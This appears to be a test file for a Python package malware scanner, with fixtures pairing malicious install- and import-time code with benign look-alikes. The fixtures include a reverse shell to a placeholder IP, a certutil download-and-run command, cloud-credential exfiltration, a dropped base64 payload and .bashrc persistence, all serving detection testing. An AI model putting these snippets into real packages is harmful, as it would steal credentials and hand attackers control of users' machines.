"""Chains the code checks follow across statements and helpers: a command kept in a variable, a
download saved by one helper and started by another, code carried as text and dropped, data read
from a socket, cloud credentials, hidden-window flags. Each behaviour is held against the benign
code that looks most like it. Samples are packed into sdists and scanned, never run."""

from __future__ import annotations

from pathlib import Path

import pytest

from pipwarden import analyze
from pipwarden.archive import read_archive
from pipwarden.models import Artifact, Finding, PackageRef, Severity
from tests.builders import make_sdist


def _scan(tmp: Path, files: dict[str, str], setup_py: str | None = None) -> list[Finding]:
    kw = {"setup_py": setup_py} if setup_py is not None else {}
    path = make_sdist(tmp, "demo", "1.0", {"demo/__init__.py": "", **files}, **kw)  # type: ignore[arg-type]
    _, findings = analyze.analyze_archive(read_archive(path), Artifact(path.name, path=path),
                                          PackageRef("demo", path=path))
    return findings


def _worst(findings: list[Finding], check_id: str) -> Severity | None:
    return max((f.severity for f in findings if f.id == check_id), default=None)


DOWNLOAD_HELPERS = '''
import requests
import subprocess

URL = "https://cdn.example.net/files/tool.exe"
PATH = "./tool.exe"


def download_file(url, path):
    response = requests.get(url)
    with open(path, "wb") as fh:
        fh.write(response.content)


def execute_file(path):
    subprocess.run(path)


download_file(URL, PATH)
execute_file(PATH)
'''


def test_download_and_run_split_across_helpers_called_on_import(tmp_path: Path) -> None:
    found = _scan(tmp_path, {"demo/__init__.py": DOWNLOAD_HELPERS})
    assert _worst(found, "PW120") == Severity.CRITICAL


def test_download_and_run_helpers_nobody_calls_on_import_are_not_critical(tmp_path: Path) -> None:
    """The same helpers as a library API (called by the user, not on import) are not a chain that
    runs on its own."""
    lib = DOWNLOAD_HELPERS.rsplit("\n\ndownload_file(URL, PATH)", 1)[0] + "\n"
    found = _scan(tmp_path, {"demo/__init__.py": lib})
    worst = _worst(found, "PW120")
    assert worst is None or worst < Severity.CRITICAL


def test_exec_of_a_file_just_downloaded(tmp_path: Path) -> None:
    code = '''
import requests
import tempfile


def load():
    url = "https://example.net/raw/x"
    body = requests.get(url).text
    with tempfile.NamedTemporaryFile(mode="w", delete=False) as tmp:
        tmp.write(body)
        name = tmp.name
    exec(open(name).read(), globals())


load()
'''
    assert _worst(_scan(tmp_path, {"demo/__init__.py": code}), "PW120") == Severity.CRITICAL


def test_embedded_code_written_and_started_on_import(tmp_path: Path) -> None:
    code = '''
from tempfile import NamedTemporaryFile
from sys import executable
from os import system

tmp = NamedTemporaryFile(delete=False)
tmp.write(b"""import socket, json;socket.create_connection(("203.0.113.9", 80)).send(b'x')""")
tmp.close()
system(f"start {executable.replace('.exe', 'w.exe')} {tmp.name}")
'''
    assert _worst(_scan(tmp_path, {"demo/__init__.py": code}), "PW120") == Severity.CRITICAL


def test_build_step_that_writes_a_config_and_runs_a_compiler_is_not_a_chain(tmp_path: Path) -> None:
    setup_py = '''
import subprocess
from setuptools import setup

with open("build/config.h", "w") as fh:
    fh.write("#define HAVE_THING 1\\n")
subprocess.check_call(["cc", "-c", "src/thing.c", "-o", "build/thing.o"])
setup(name="demo", version="1.0")
'''
    assert _worst(_scan(tmp_path, {}, setup_py=setup_py), "PW120") is None


def test_decoded_payload_written_as_a_script_at_install_time(tmp_path: Path) -> None:
    import base64

    blob = base64.b64encode(b"import os\nos.system('whoami')\n").decode()
    setup_py = f'''
from base64 import b64decode
from os.path import join
from setuptools import setup


def unpack(code):
    return b64decode(code.encode()).decode()


setup(name="demo", version="1.0")
with open(join("__pycache__", "main.cpython-39.py"), "w") as f:
    f.write(unpack("{blob}"))
'''
    found = [f for f in _scan(tmp_path, {}, setup_py=setup_py) if f.id == "PW120"]
    assert found and max(f.severity for f in found) >= Severity.HIGH
    assert "main.cpython-39.py" in found[0].message


def test_decoded_data_written_as_data_is_not_a_dropped_script(tmp_path: Path) -> None:
    setup_py = '''
import base64
from setuptools import setup

ICON = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
with open("demo/icon.png", "wb") as f:
    f.write(base64.b64decode(ICON))
setup(name="demo", version="1.0")
'''
    assert _worst(_scan(tmp_path, {}, setup_py=setup_py), "PW120") is None


def test_command_kept_in_a_variable_is_read(tmp_path: Path) -> None:
    setup_py = '''
import os
from setuptools import setup
from setuptools.command.install import install


class CustomInstall(install):
    def run(self):
        install.run(self)
        fetch = (
            "certutil.exe -urlcache -split -f "
            "http://203.0.113.7:8877/a C:\\\\Users\\\\Public\\\\run.bat && C:\\\\Users\\\\Public\\\\run.bat"
        )
        os.system(fetch)


setup(name="demo", version="1.0", cmdclass={"install": CustomInstall})
'''
    assert _worst(_scan(tmp_path, {}, setup_py=setup_py), "PW101") == Severity.CRITICAL


def test_bundled_windows_program_started_after_install(tmp_path: Path) -> None:
    setup_py = '''
import os
import subprocess
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        here = os.path.dirname(os.path.abspath(__file__))
        exe_path = os.path.join(here, "demo", "bin", "agent.exe")
        subprocess.run([exe_path], check=True)


setup(name="demo", version="1.0", cmdclass={"install": PostInstall})
'''
    assert _worst(_scan(tmp_path, {}, setup_py=setup_py), "PW101") == Severity.HIGH


def test_build_command_running_a_compiler_from_a_variable_stays_low(tmp_path: Path) -> None:
    setup_py = '''
import subprocess
from setuptools import setup
from setuptools.command.build_ext import build_ext


class Build(build_ext):
    def run(self):
        cmd = ["cmake", "--build", "build"]
        subprocess.check_call(cmd)
        build_ext.run(self)


setup(name="demo", version="1.0", cmdclass={"build_ext": Build})
'''
    worst = _worst(_scan(tmp_path, {}, setup_py=setup_py), "PW101")
    assert worst is not None and worst <= Severity.LOW


def test_commands_received_from_a_socket_are_run(tmp_path: Path) -> None:
    code = '''
import socket
import subprocess


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("198.51.100.4", 4444))
    while True:
        command = s.recv(1024).decode()
        proc = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)
        s.send(proc.stdout.read())


connect()
'''
    assert _worst(_scan(tmp_path, {"demo/__init__.py": code}), "PW110") == Severity.CRITICAL


def test_a_server_that_runs_a_fixed_command_per_request_is_not_remote_control(tmp_path: Path) -> None:
    code = '''
import socket
import subprocess


def serve(port):
    s = socket.socket()
    s.bind(("127.0.0.1", port))
    s.listen()
    conn, _ = s.accept()
    request = conn.recv(1024)
    out = subprocess.run(["uptime"], capture_output=True).stdout
    conn.sendall(out)
'''
    found = [f for f in _scan(tmp_path, {"demo/__init__.py": code}) if f.severity >= Severity.MEDIUM]
    assert not found, found


def test_cloud_credentials_sent_on_import(tmp_path: Path) -> None:
    code = '''
import boto3
import requests


def check():
    session = boto3.Session()
    creds = session.get_credentials()
    data = {"k": creds.access_key, "s": creds.secret_key}
    requests.post("https://collector.example.net/zz", json=data, timeout=4)


check()
'''
    assert _worst(_scan(tmp_path, {"demo/__init__.py": code}), "PW130") == Severity.CRITICAL


def test_cloud_client_using_its_own_credentials_is_not_exfiltration(tmp_path: Path) -> None:
    code = '''
import boto3


def upload(bucket, key, body):
    session = boto3.Session()
    creds = session.get_credentials()
    client = session.client("s3")
    return client.put_object(Bucket=bucket, Key=key, Body=body), creds.method
'''
    found = [f for f in _scan(tmp_path, {"demo/__init__.py": code}) if f.id == "PW130"]
    assert not found, found


@pytest.mark.parametrize(("flags", "hidden"), [
    ("0x00000008 | 0x00000200", True),  # DETACHED_PROCESS | CREATE_NEW_PROCESS_GROUP
    ("134218256", True),  # CREATE_NO_WINDOW | ... as one number
    ("0x00000200", False),  # a new process group alone hides nothing
])
def test_hidden_window_flags_as_numbers(tmp_path: Path, flags: str, hidden: bool) -> None:
    code = f"import subprocess\nsubprocess.Popen(['updater'], creationflags={flags})\n"
    worst = _worst(_scan(tmp_path, {"demo/__init__.py": code}), "PW121")
    assert (worst is not None and worst >= Severity.HIGH) == hidden


def test_a_file_broken_below_its_payload_is_still_read(tmp_path: Path) -> None:
    """A stray line pasted at the end (or a bad indent further down) does not hide the statements
    above it."""
    code = ('import os\nimport httpx\n\ndata = {"user": os.getenv("COMPUTERNAME")}\n'
            'httpx.post("https://collector.example.net/x", json=data)\n\n'
            'def later():\n    return 1\n\nSource: https://example.net/page\n')
    assert _worst(_scan(tmp_path, {"demo/__init__.py": code}), "PW130") is not None
    (tmp_path / "b").mkdir()
    py2 = 'import os\n\nHOME = os.path.expanduser("~")\nprint "home is", HOME\n'
    assert not [f for f in _scan(tmp_path / "b", {"demo/__init__.py": py2}) if f.severity >= Severity.MEDIUM]


def test_pyarmor_code_without_its_runtime_is_high_with_it_medium(tmp_path: Path) -> None:
    """A commercial package ships PyArmor-protected modules with the runtime beside them; protected
    code published without the runtime can neither be read nor run as it stands."""
    stub = ("from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
            "__pyarmor__(__name__, __file__, b'\\x50\\x59')\n")
    alone = _scan(tmp_path, {"demo/__init__.py": stub})
    assert _worst(alone, "PW112") == Severity.HIGH
    (tmp_path / "rt").mkdir()
    shipped = _scan(tmp_path / "rt", {"demo/__init__.py": stub, "demo/pytransform/__init__.py": "# runtime\n"})
    assert _worst(shipped, "PW112") == Severity.MEDIUM


@pytest.mark.parametrize(("code", "high"), [
    ('import requests\nrequests.post("https://api.example.net/hello", data={"v": 1})\n', True),
    ('import requests\nip = requests.get("https://api.ipify.org").text\n', True),
    ('import subprocess\nsubprocess.call("/bin/sh", shell=True)\n', True),
    # what libraries do on import: read a config file or a URL the caller named, ask a local tool
    ('import urllib.request\n\ndef load(url):\n    return urllib.request.urlopen(url).read()\n\n'
     'CONFIG = load("file:///etc/demo.cfg")\n', False),
    ('import subprocess\nFONTS = subprocess.check_output(["fc-list", "--format=%{file}"])\n', False),
])
def test_what_a_module_does_the_moment_it_is_imported(tmp_path: Path, code: str, high: bool) -> None:
    worst = _worst(_scan(tmp_path, {"demo/__init__.py": code}), "PW110")
    assert worst is not None
    assert (worst >= Severity.HIGH) == high, worst


INSTALLER = '''
import os


def install():
    with open(os.path.expanduser("~/.bashrc"), "a") as rc:
        rc.write("python ~/.cache/.agent.py &\\n")
'''


@pytest.mark.parametrize("init", [
    "from .installer import install\ninstall()\n",
    "from demo.installer import install as go\ngo()\n",
])
def test_a_function_the_package_init_calls_runs_on_import(tmp_path: Path, init: str) -> None:
    found = _scan(tmp_path, {"demo/__init__.py": init, "demo/installer.py": INSTALLER})
    hits = [f for f in found if f.id == "PW150"]
    assert hits and max(f.severity for f in hits) == Severity.HIGH
    assert "__init__.py" in hits[0].message


def test_a_function_the_package_init_only_imports_waits_for_a_caller(tmp_path: Path) -> None:
    found = _scan(tmp_path, {"demo/__init__.py": "from .installer import install\n__all__ = ['install']\n",
                             "demo/installer.py": INSTALLER})
    assert _worst(found, "PW150") == Severity.MEDIUM
